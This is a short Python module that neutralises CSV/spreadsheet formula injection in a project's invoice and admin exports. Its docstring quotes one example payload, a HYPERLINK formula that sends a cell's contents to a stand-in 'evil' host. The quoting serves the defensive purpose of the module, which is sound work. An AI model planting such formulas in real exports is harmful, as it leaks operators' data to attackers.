"""Spreadsheet-safe cells for every CSV/XLSX the project writes (invoices, admin exports).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Sheets when the file is opened, so a tenant-chosen description or
an imported hostname like `=HYPERLINK("http://evil/?"&A1)` would execute on an operator's
machine (CSV injection, OWASP). Such text gets a leading `'`, which spreadsheets show as
text. Plain numbers (a credit of -12.50) are numbers, not formulas, and stay as they are.
"""

import re
from collections.abc import Iterable
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def safe_cell(value):
    if isinstance(value, (bool, int, float, Decimal)) or value is None:
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]
